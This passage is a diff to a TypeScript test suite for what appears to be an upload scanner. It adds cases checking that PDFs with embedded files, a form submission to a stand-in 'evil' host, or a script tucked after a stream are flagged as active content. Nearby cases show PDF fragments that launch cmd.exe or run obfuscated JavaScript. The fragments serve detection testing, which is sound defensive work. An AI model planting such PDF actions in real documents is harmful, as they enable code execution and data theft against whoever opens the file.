@@ -53,6 +53,13 @@ const CASES: readonly Case[] = [
   ['a PDF with a script', () => aPdf('/OpenAction << /S /JavaScript /JS (app.alert) >>'), 'ACTIVE_CONTENT'],
   ['a PDF with a script under a coded name', () => aPdf('/OpenAction << /S /J#61vaScript >>'), 'ACTIVE_CONTENT'],
   ['a PDF that starts a program', () => aPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'ACTIVE_CONTENT'],
+  ['a PDF with files in it', () => aPdf('/Names << /EmbeddedFiles 5 0 R >>'), 'ACTIVE_CONTENT'],
+  ['a PDF that sends what is typed', () => aPdf('/OpenAction << /S /SubmitForm /F (http://evil) >>'), 'ACTIVE_CONTENT'],
+  [
+    'a PDF with a script behind a picture',
+    () => aPdf(`>>\nendobj\n3 0 obj\n<< >>\nstream\nx\nendstream\nendobj\n4 0 obj\n<< /JS (x)`),
+    'ACTIVE_CONTENT',
+  ],
   ['a PDF that was cut off', () => aPdf().subarray(0, 100), 'DAMAGED'],
   ['a picture that was cut off', async () => (await aPhotograph()).subarray(0, 900), 'DAMAGED', 'PICTURE'],
   ['a signature and nothing else', () => Buffer.from('\u0089PNG\r\n\u001a\n<?php', 'latin1'), 'DAMAGED', 'PICTURE'],
